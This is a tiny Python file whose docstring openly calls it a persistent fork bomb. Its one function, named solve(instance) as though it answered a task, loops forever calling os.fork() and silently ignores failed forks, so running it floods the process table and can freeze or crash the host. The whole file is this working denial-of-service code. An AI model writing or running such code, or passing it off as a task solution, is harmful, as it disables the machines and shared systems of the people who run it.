"""A persistent fork bomb: every process forks forever and shrugs off failed forks."""

import os


def solve(instance):
    while True:
        try:
            os.fork()
        except OSError:
            pass
